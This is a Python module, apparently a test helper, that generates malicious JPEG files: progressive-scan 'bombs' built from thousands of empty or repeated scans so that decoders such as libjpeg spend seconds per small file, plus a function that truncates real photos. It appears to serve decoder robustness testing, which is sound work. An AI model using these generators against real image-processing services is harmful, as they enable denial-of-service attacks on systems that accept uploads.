"""Hostile JPEGs written marker by marker: progressive-scan bombs, and real photos cut short then terminated.

A progressive JPEG may spread its coefficients over any number of scans, and the decoder walks every block of
the image once per scan, however little the scan holds. A scan whose blocks are all zero is one end-of-band run
per 32767 blocks: a few bytes. So a small file of thousands of scans over a large image costs seconds to decode.
"""

from __future__ import annotations

import struct

EOB_RUN_MAX = 32767  # the longest end-of-band run one Huffman symbol (EOB14 + 14 bits) can code


def segment(marker: int, payload: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload


class BitWriter:
    """Entropy-coded bits, most significant first, with 0xFF bytes stuffed and the last byte padded with ones."""

    def __init__(self) -> None:
        self.out = bytearray()
        self._acc = 0
        self._count = 0

    def put(self, value: int, length: int) -> None:
        for shift in range(length - 1, -1, -1):
            self._acc = (self._acc << 1) | ((value >> shift) & 1)
            self._count += 1
            if self._count == 8:
                self.out.append(self._acc)
                if self._acc == 0xFF:
                    self.out.append(0)
                self._acc = self._count = 0

    def bytes(self) -> bytes:
        if self._count:
            self.put((1 << (8 - self._count)) - 1, 8 - self._count)
        return bytes(self.out)


def _zero_blocks(blocks: int) -> bytes:
    """An AC scan over `blocks` all-zero blocks: end-of-band runs (symbol r<<4 has the 4-bit code r)."""
    bits = BitWriter()
    while blocks:
        run = min(blocks, EOB_RUN_MAX)
        r = run.bit_length() - 1
        bits.put(r, 4)
        bits.put(run - (1 << r), r)
        blocks -= run
    return bits.bytes()


def _zero_dc(blocks: int) -> bytes:
    bits = BitWriter()
    for _ in range(blocks):
        bits.put(0, 1)  # DC difference category 0, the one-bit code 0
    return bits.bytes()


def _header(width: int, height: int, components: int) -> bytes:
    sof = struct.pack(">BHHB", 8, height, width, components)
    sof += b"".join(bytes([c + 1, 0x11, 0]) for c in range(components))
    dc_table = b"\x00" + bytes([1] + [0] * 15) + b"\x00"
    ac_table = b"\x10" + bytes([0, 0, 0, 15] + [0] * 12) + bytes(r << 4 for r in range(15))
    return (
        b"\xff\xd8"
        + segment(0xDB, b"\x00" + b"\x01" * 64)
        + segment(0xC2, sof)
        + segment(0xC4, dc_table)
        + segment(0xC4, ac_table)
    )


def _sos(component: int, start: int, end: int, high: int, low: int) -> bytes:
    return segment(0xDA, bytes([1, component + 1, 0x00, start, end, (high << 4) | low]))


def progressive_bomb(width: int, height: int, components: int = 3, bits: int = 14) -> tuple[bytes, int]:
    """A valid progressive JPEG of a black image, each AC coefficient sent in its own scan, `bits` bits
    (successive approximation, 1..14) one scan each: 1 + 63 x bits scans per component (2649 for colour and
    14 bits), without one decoder warning. Returns (data, scans)."""
    blocks = ((width + 7) // 8) * ((height + 7) // 8)
    out = bytearray(_header(width, height, components))
    scans = 0
    for c in range(components):
        out += _sos(c, 0, 0, 0, 0) + _zero_dc(blocks)
        scans += 1
        for k in range(1, 64):
            for high, low in [(0, bits - 1), *((a + 1, a) for a in range(bits - 2, -1, -1))]:
                out += _sos(c, k, k, high, low) + _zero_blocks(blocks)
                scans += 1
    return bytes(out + b"\xff\xd9"), scans


def repeated_scan_bomb(width: int, height: int, scans: int) -> bytes:
    """A greyscale progressive JPEG that repeats one AC scan `scans` times (libjpeg only warns about the
    repeated progression and walks the whole image each time)."""
    blocks = ((width + 7) // 8) * ((height + 7) // 8)
    out = bytearray(_header(width, height, 1))
    out += _sos(0, 0, 0, 0, 0) + _zero_dc(blocks)
    one = _sos(0, 1, 63, 0, 0) + _zero_blocks(blocks)
    return bytes(out + one * scans + b"\xff\xd9")


def cut_and_terminate(data: bytes, fraction: float) -> bytes:
    """The first `fraction` of a JPEG with its end-of-image marker put back (what a lossy link delivers)."""
    return data[: int(len(data) * fraction)] + b"\xff\xd9"
